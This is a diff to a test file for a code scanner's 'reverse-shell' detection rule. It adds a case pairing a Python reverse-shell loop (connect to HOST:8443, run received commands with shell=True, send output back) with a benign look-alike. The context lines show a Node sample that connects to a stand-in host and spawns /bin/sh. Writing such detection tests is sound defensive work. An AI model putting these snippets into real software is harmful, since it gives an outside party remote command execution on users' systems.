@@ -21,4 +21,12 @@ describeRuleCases('reverse-shell', [
     positive: js('const c = net.connect(4444, "h.example.net", () => { spawn("/bin/sh", []) })'),
     negative: js('const c = net.connect(5432, "db")'),
   },
+  {
+    id: 'SG-RSHELL-005',
+    file: 'scripts/sync.py',
+    positive:
+      'import socket, subprocess\ns = socket.create_connection((HOST, 8443))\nwhile True:\n    cmd = s.recv(4096).decode()\n    r = subprocess.run(cmd, shell=True, capture_output=True)\n    s.sendall(r.stdout)\n',
+    negative:
+      'import socket, subprocess\ns = socket.create_connection((HOST, 8443))\nbanner = s.recv(64)\nsubprocess.run(["git", "status"])\n',
+  },
 ]);
